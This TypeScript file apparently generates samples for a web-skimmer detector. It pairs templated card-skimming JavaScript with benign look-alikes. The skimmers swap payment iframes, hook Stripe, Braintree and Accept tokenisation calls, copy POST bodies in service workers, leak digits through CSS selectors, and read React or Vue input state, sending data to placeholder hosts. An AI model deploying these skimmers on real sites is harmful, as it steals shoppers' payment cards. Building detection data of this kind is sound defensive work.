/** Skimmers that read no field of the page: they stand in the place of the frames, functions and workers that handle the card. */
export const interceptionDesigns: Readonly<Record<string, readonly string[]>> = {
  'frame-swap': [
    "«ready:var @a=document.querySelector('«payframe»');if(@a){var @b=document.createElement('iframe');‹@b.src=«frameurl»‹¦+'?h='+location.host¦+'?r='+encodeURIComponent(@a.src)›¦@b.setAttribute('src',«frameurl»)›;@b.style.cssText='‹border:0;width:100%;height:48px¦width:100%;border:none›';‹@a.parentNode.replaceChild(@b,@a)¦@a.replaceWith(@b)¦@a.parentNode.insertBefore(@b,@a);@a.remove()¦@a.style.display='none';@a.after(@b)›;window.addEventListener('message',function(e){if(e.data&&e.data.‹done¦ok¦n›){@b.replaceWith(@a);‹«sneak:JSON.stringify(e.data)»¦›}})}»",
    "var @t=setInterval(function(){[].forEach.call(document.getElementsByTagName('iframe'),function(@a){if(/‹stripe|adyen¦braintree|hosted-?fields¦js\\.stripe\\.com¦adyen|worldpay|mollie›/i.test(@a.src+@a.name)){clearInterval(@t);‹@a.src=«frameurl»¦@a.setAttribute('src',«frameurl»)¦@a.parentNode.innerHTML='<iframe src=\"«url»\" style=\"border:0;width:100%\"></iframe>'¦@a.outerHTML='<iframe width=\"100%\" frameborder=0 src=\"«url»\"></iframe>'›}})},«int:2-20»00);",
    "new MutationObserver(function(m){m.forEach(function(r){r.addedNodes.forEach(function(@a){if(@a.nodeName==='IFRAME'&&/‹stripe¦adyen¦braintree¦hosted-?field›/.test(@a.‹src¦name›)){var @b=@a.cloneNode();@b.src=«frameurl»;@a.replaceWith(@b)}})})}).observe(document.‹body¦documentElement›,{childList:true,subtree:true});",
    "«ready:jQuery('«payframe»').each(function(){var @a=jQuery(this);@a.‹hide()¦css('display','none')›.after('<iframe src=\"«url»\" class=\"«class»\"></iframe>')})»",
    "«ready:document.querySelectorAll('«payframe»').forEach(function(@a){var @b=document.createElement('div');@b.innerHTML='<input name=number placeholder=\"1234 1234 1234 1234\"><input name=exp placeholder=\"MM / YY\"><input name=cvc placeholder=CVC>';@a.parentNode.insertBefore(@b,@a);@a.style.display='none';@b.addEventListener('«change»',function(){var @d=[].map.call(@b.children,function(i){return i.value}).join('|');if(@d.length>22){«sneak:«encoded:@d»»@b.remove();@a.style.display=''}})})»",
  ],
  'sdk-wrap': [
    "(function @w(){if(!window.Stripe‹¦||!window.Stripe.createToken›)return setTimeout(@w,«int:1-9»00);var @a=Stripe.createToken;Stripe.createToken=function(@b,@c){try{var @d=JSON.stringify(@b);«sneak:«encoded:@d»»}catch(e){}return @a.call(this,@b,@c)}})();",
    "var @a=window.Stripe;window.Stripe=function(){var @b=@a.apply(this,arguments);['createToken','createPaymentMethod','confirmCardPayment','confirmPayment'].forEach(function(n){var @c=@b[n];@b[n]=function(){var @d=JSON.stringify([].slice.call(arguments));«sneak:«encoded:@d»»return @c.apply(@b,arguments)}});return @b};",
    "let @a;Object.defineProperty(window,'‹Stripe¦braintree¦AdyenCheckout¦Accept›',{configurable:true,get(){return @a},set(@b){@a=typeof @b==='function'?function(){const @c=@b.apply(this,arguments),@e=@c.createToken;@c.createToken=function(){const @d=JSON.stringify([...arguments]);«sneak:«encoded:@d»»return @e.apply(@c,arguments)};return @c}:@b}});",
    "var @a=Accept.dispatchData;Accept.dispatchData=function(@b,@c){var @d=JSON.stringify(@b.cardData||@b);«sneak:«encoded:@d»»return @a.call(Accept,@b,@c)};",
    "(function @w(){if(!window.braintree)return setTimeout(@w,«int:1-9»00);var @a=braintree.client.create;braintree.client.create=function(o,k){return @a.call(braintree.client,o,function(e,@b){if(@b){var @c=@b.request;@b.request=function(q,z){var @d=JSON.stringify(q.data);«sneak:«encoded:@d»»return @c.call(@b,q,z)}}k(e,@b)})}})();",
    "window.Stripe=new Proxy(window.Stripe,{apply(@a,t,args){const @b=Reflect.apply(@a,t,args);return new Proxy(@b,{get(o,p){const v=o[p];return typeof v==='function'&&/‹create|confirm¦Token|Payment›/.test(p)?(...q)=>{const @d=JSON.stringify(q);«sneak:«encoded:@d»»return v.apply(o,q)}:v}})}});",
  ],
  'worker-copy': [
    "self.addEventListener('install',function(){self.skipWaiting()});self.addEventListener('fetch',function(e){var @a=e.request;if(@a.method==='POST'‹&&/payment|checkout|order/.test(@a.url)¦›){e.waitUntil(@a.clone().text().then(function(@d){‹«workersend:@d»¦if(/\\d{13}|cc_|card/.test(@d)){«workersend:@d»}›}))}});",
    "addEventListener('fetch',e=>{if(e.request.method!=='POST')return;e.respondWith((async()=>{const @b=e.request.clone();const @d=await @b.‹text()¦formData().then(f=>JSON.stringify([...f.entries()]))¦json().then(JSON.stringify)›;«workersend:@d»return fetch(e.request)})())});",
    "self.onfetch=function(e){var @a=e.request;e.respondWith(caches.match(@a).then(function(r){return r||fetch(@a)}));if(@a.method!=='GET')@a.clone().‹text¦json›().then(function(@c){var @d=typeof @c==='string'?@c:JSON.stringify(@c);if(/‹cvv|cvc|card¦number¦payment›/i.test(@d)){«workersend:@d»}})};",
  ],
  'style-tells': [
    "var @a='';‹'0123456789'.split('')¦'abcdefghijklmnopqrstuvwxyz0123456789'.split('')›.forEach(function(c){@a+='‹«card»¦«cvv»¦input[type=password]¦input[name=«cardname»]›'.replace(/\"/g,'')+'[value‹^¦$¦*›=\"'+c+'\"]{background‹-image¦›:url(«url»?c='+c+')}'});var @b=document.createElement('style');@b.‹textContent=@a¦appendChild(document.createTextNode(@a))¦innerHTML=@a›;document.head.appendChild(@b);document.querySelectorAll('input').forEach(function(i){i.addEventListener('input',function(){i.setAttribute('value',i.value)})});",
    "«ready:var @a=new CSSStyleSheet();for(var i=0;i<100;i++){@a.insertRule('input[autocomplete=‹cc-number¦cc-csc›][value$=\"'+(i<10?'0'+i:i)+'\"]{list-style:url(«url»/'+i+')}')}document.adoptedStyleSheets=[@a];document.addEventListener('input',function(e){e.target.setAttribute('value',e.target.value)},true)»",
  ],
  'framework-state': [
    "«ready:setInterval(function(){var @d=[].map.call(document.querySelectorAll('input'),function(i){var k=Object.keys(i).find(function(n){return ‹n.indexOf('__reactProps')===0});return k&&i[k].value¦n.indexOf('__reactFiber')===0});return k&&i[k].memoizedProps.value›}).filter(Boolean).join('|');if(/\\d{13}/.test(@d.replace(/ /g,''))){«sneak:«encoded:@d»»}},«int:1-9»000)»",
    "document.addEventListener('‹change¦focusout¦input›',function(e){var t=e.target,k=Object.keys(t).filter(function(n){return /^__react(Props|EventHandlers|Fiber)\\$/.test(n)})[0],@b=k?t[k].memoizedProps||t[k]:{};if(@b.autoComplete&&/cc-/.test(@b.autoComplete)||/card|cvv/i.test(@b.name)){var @d=@b.name+'='+@b.value;«sneak:«encoded:@d»»}},true);",
    "«ready:var @a=document.querySelector('«form»'),@b=@a&&(@a.__vue__||(@a.__vueParentComponent||{}).proxy);if(@b){@b.$watch(function(){return JSON.stringify(@b.$data)},function(@d){if(/\\d{15}/.test(@d)){«sneak:«encoded:@d»»}})}»",
    "var @a=EventTarget.prototype.addEventListener;EventTarget.prototype.addEventListener=function(t,f,o){if(t==='submit'||t==='‹change¦input¦blur›'){var @b=f;f=function(e){try{var @d=e.target.form?new URLSearchParams(new FormData(e.target.form)).toString():e.target.name+'='+e.target.value;if(/card|cc|cvv/i.test(@d)){«sneak:«encoded:@d»»}}catch(x){}return @b.apply?@b.apply(this,arguments):@b.handleEvent(e)}}return @a.call(this,t,f,o)};",
    "var @a=Object.getOwnPropertyDescriptor(HTMLInputElement.prototype,'value'),@b={};Object.defineProperty(HTMLInputElement.prototype,'value',{configurable:true,enumerable:true,get:@a.get,set:function(v){@a.set.call(this,v);if(/card|cc|cv[cv]|exp/i.test(this.name+this.id+this.autocomplete)){@b[this.name||this.id]=v;clearTimeout(window.@c);window.@c=setTimeout(function(){var @d=JSON.stringify(@b);«sneak:«encoded:@d»»},«int:3-30»00)}}});",
  ],
};

/** The same calls for honest ends: frames are moved, sized and loaded late, functions are timed, watched for errors and given defaults. */
export const bystanderDesigns: Readonly<Record<string, readonly string[]>> = {
  'frame-care': [
    "«ready:document.querySelectorAll('iframe[data-src]').forEach(function(@a){‹@a.src=@a.dataset.src¦@a.setAttribute('src',@a.getAttribute('data-src'))›;@a.removeAttribute('data-src')})»",
    "window.addEventListener('message',function(e){var @a=document.querySelector('«payframe»');if(@a&&e.source===@a.contentWindow&&e.data.height){@a.style.height=e.data.height+'px'}});",
    "«ready:var @a=document.querySelector('«payframe»');if(@a){@a.title='‹Card number¦Secure card payment›';@a.addEventListener('load',function(){document.querySelector('.«class»').classList.remove('loading')})}»",
    "new MutationObserver(function(m){m.forEach(function(r){r.addedNodes.forEach(function(@a){if(@a.nodeName==='IFRAME'&&/‹stripe¦adyen¦braintree›/.test(@a.src)){@a.setAttribute('loading','eager');document.querySelector('.«class»').style.display='none'}})})}).observe(document.body,{childList:true,subtree:true});",
    "«ready:document.querySelectorAll('iframe').forEach(function(@a){if(/‹youtube|vimeo¦player|video¦maps|embed›/.test(@a.src)){var @b=document.createElement('iframe');@b.src='«url»?v='+encodeURIComponent(@a.src);@b.width=@a.width;@a.replaceWith(@b)}})»",
    "«ready:var @a=document.querySelector('‹#card-element¦.payment-frame¦[data-card]›');if(@a){var @b=document.createElement('iframe');@b.src='«url»?key=«key:16»';@b.style.cssText='border:0;width:100%;height:48px';@a.appendChild(@b)}»",
  ],
  'sdk-watch': [
    "(function @w(){if(!window.Stripe)return setTimeout(@w,«int:1-9»00);var @a=window.Stripe;window.Stripe=function(){var @b=@a.apply(this,arguments),@c=@b.confirmCardPayment;@b.confirmCardPayment=function(){var t=Date.now();return @c.apply(@b,arguments).then(function(r){var @d=JSON.stringify({ms:Date.now()-t,ok:!r.error,code:r.error&&r.error.code});«send:@d»return r})};return @b}})();",
    "var @a=braintree.client.create;braintree.client.create=function(o,k){var t=performance.now();return @a.call(braintree.client,o,function(e,c){var @d=JSON.stringify({ms:performance.now()-t,error:e&&e.code});«send:@d»k(e,c)})};",
    "var @a=Accept.dispatchData;Accept.dispatchData=function(b,k){document.querySelector('«pay»').disabled=true;return @a.call(Accept,b,function(r){document.querySelector('«pay»').disabled=false;if(r.messages.resultCode==='Error'){var @d=JSON.stringify(r.messages.message.map(function(m){return m.code}));«send:@d»}k(r)})};",
    "var @s=Stripe('pk_live_«key:24»'),@c=@s.elements().create('card');@c.mount('#card-element');document.querySelector('«form»').addEventListener('submit',function(e){e.preventDefault();@s.createToken(@c,{name:document.querySelector('«person»').value}).then(function(r){if(r.error){document.querySelector('.error').textContent=r.error.message;return}var i=document.createElement('input');i.type='hidden';i.name='stripeToken';i.value=r.token.id;e.target.appendChild(i);e.target.submit()})});",
    "window.«sdk»=window.«sdk»||{};(function(ns){var @a=ns.tokenize;ns.tokenize=function(card,k){fetch('https://«host»/v1/tokens',{method:'POST',headers:{Authorization:'Bearer pk_live_«key:20»','Content-Type':'application/json'},body:JSON.stringify({card:card})}).then(function(r){return r.json()}).then(function(t){k(null,t)},k)};ns.noConflict=function(){ns.tokenize=@a}})(window.«sdk»);",
  ],
  'worker-cache': [
    "self.addEventListener('install',function(e){e.waitUntil(caches.open('«word»-v«int:1-30»').then(function(c){return c.addAll(['/','/app.css','/app.js'])}));self.skipWaiting()});self.addEventListener('fetch',function(e){if(e.request.method!=='GET')return;e.respondWith(caches.match(e.request).then(function(r){return r||fetch(e.request)}))});",
    "addEventListener('fetch',e=>{if(e.request.mode==='navigate'){e.respondWith(fetch(e.request).catch(()=>caches.match('/offline.html')));return}if(e.request.method==='POST'&&!navigator.onLine){e.waitUntil(e.request.clone().text().then(t=>{self.queue=self.queue||[];self.queue.push([e.request.url,t])}))}});",
    "self.addEventListener('fetch',function(e){var t=Date.now();e.respondWith(fetch(e.request).then(function(r){if(r.status>=500||Date.now()-t>«int:2-9»000){var @d=JSON.stringify({u:new URL(e.request.url).pathname,s:r.status,m:e.request.method});«workersend:@d»}return r}))});",
    "self.addEventListener('push',function(e){var @a=e.data.json();e.waitUntil(self.registration.showNotification(@a.title,{body:@a.body,icon:'«url»'}))});self.addEventListener('notificationclick',function(e){e.notification.close();e.waitUntil(clients.openWindow(e.notification.data.url))});",
  ],
  'style-care': [
    "var @b=document.createElement('style');@b.textContent='input[type=search]{background:url(«url») no-repeat}a[href^=\"http\"]::after{content:url(«url»)}input[value=\"\"]{border-color:#«hex:6»}';document.head.appendChild(@b);",
    "«ready:var @a='';['visa','mastercard','amex','discover'].forEach(function(c){@a+='.«class».'+c+'{background-image:url(«url»/'+c+'.svg)}'});document.head.insertAdjacentHTML('beforeend','<style>'+@a+'</style>')»",
    "var @a=new CSSStyleSheet();['s','m','l'].forEach(function(n,i){@a.insertRule('.«class»[data-size^=\"'+n+'\"]{background:url(«url»/'+n+'.png)}')});document.adoptedStyleSheets=[@a];",
  ],
  'framework-care': [
    "«ready:document.querySelectorAll('input').forEach(function(i){var k=Object.keys(i).find(function(n){return n.indexOf('__reactProps')===0});if(k&&!i[k].onChange)console.warn('uncontrolled input',i.name)})»",
    "«ready:var @s=Object.getOwnPropertyDescriptor(HTMLInputElement.prototype,'value').set;document.querySelector('#autofill-test').addEventListener('click',function(){var @a=document.querySelector('«person»');@s.call(@a,'Jane Doe');@a.dispatchEvent(new Event('input',{bubbles:true}))})»",
    "var @a=EventTarget.prototype.addEventListener;EventTarget.prototype.addEventListener=function(t,f,o){return @a.call(this,t,f,/^(touchstart|touchmove|wheel)$/.test(t)&&o===undefined?{passive:true}:o)};",
    "var @a=EventTarget.prototype.addEventListener;EventTarget.prototype.addEventListener=function(t,f,o){var @b=typeof f!=='function'?f:function(){try{return f.apply(this,arguments)}catch(x){var @d=JSON.stringify({type:t,error:String(x&&x.message)});«send:@d»throw x}};return @a.call(this,t,@b,o)};",
    "«ready:var @a=document.querySelector('«form»'),@b=@a&&@a.__vue__;if(@b){@b.$watch('step',function(n){var @d=JSON.stringify({step:n});«send:@d»})}»",
  ],
  'peer-app': [
    "(async()=>{const @p=new RTCPeerConnection({iceServers:[{urls:'stun:«host»:3478'}]}),@c=@p.createDataChannel('‹chat¦files¦«word»›');@c.onmessage=e=>{const m=JSON.parse(e.data);document.querySelector('.«class»').append(m.text)};await @p.setLocalDescription(await @p.createOffer());const r=await fetch('/signal',{method:'POST',body:JSON.stringify(@p.localDescription)});await @p.setRemoteDescription(await r.json())})();",
    "var @p=new RTCPeerConnection();@p.ondatachannel=function(e){var @t=[];e.channel.binaryType='arraybuffer';e.channel.onmessage=function(m){if(m.data==='end'){var a=document.createElement('a');a.href=URL.createObjectURL(new Blob(@t));a.download='«word».zip';a.click()}else @t.push(m.data)}};",
    "var @a=new BroadcastChannel('«word»');@a.onmessage=function(e){if(e.data&&e.data.type==='‹logout¦cart›')location.reload()};",
    "fetch('/‹media/map.svg¦icons/sprite.svg¦img/«word».svg›').then(function(r){return r.text()}).then(function(@t){var @b=document.createElement('div');@b.style.display='none';@b.innerHTML=@t;document.body.insertBefore(@b,document.body.firstChild)});",
    "var @x=new XMLHttpRequest();@x.open('GET','/‹img/«word».jpg¦media/photo.jpeg›');@x.responseType='arraybuffer';@x.onload=function(){var @v=new DataView(@x.response),o=2;while(o<@v.byteLength){if(@v.getUint16(o)===0xFFE1){document.querySelector('.«class»').dataset.turn=@v.getUint16(o+18);break}o+=2+@v.getUint16(o+2)}};@x.send();",
  ],
  'copy-care': [
    "document.querySelectorAll('pre code').forEach(function(c){var @b=document.createElement('button');@b.textContent='Copy';@b.onclick=function(){navigator.clipboard.writeText(c.textContent)};c.parentNode.appendChild(@b)});",
    "document.querySelector('‹#wallet¦.donate›').addEventListener('click',function(){var @a=document.createElement('textarea');@a.value='0x«hex:40»';document.body.appendChild(@a);@a.select();document.execCommand('copy');@a.remove();this.textContent='Address copied'});",
    "document.addEventListener('copy',function(e){var @a=getSelection().toString();if(@a.length>«int:30-200»){e.clipboardData.setData('text/plain',@a+'\\n\\n'+location.href);e.preventDefault()}});",
    "document.querySelector('.install').onclick=function(){navigator.clipboard.writeText('‹npm install «word»¦yarn add «word»¦pip install «word»›');this.classList.add('copied')};",
  ],
};
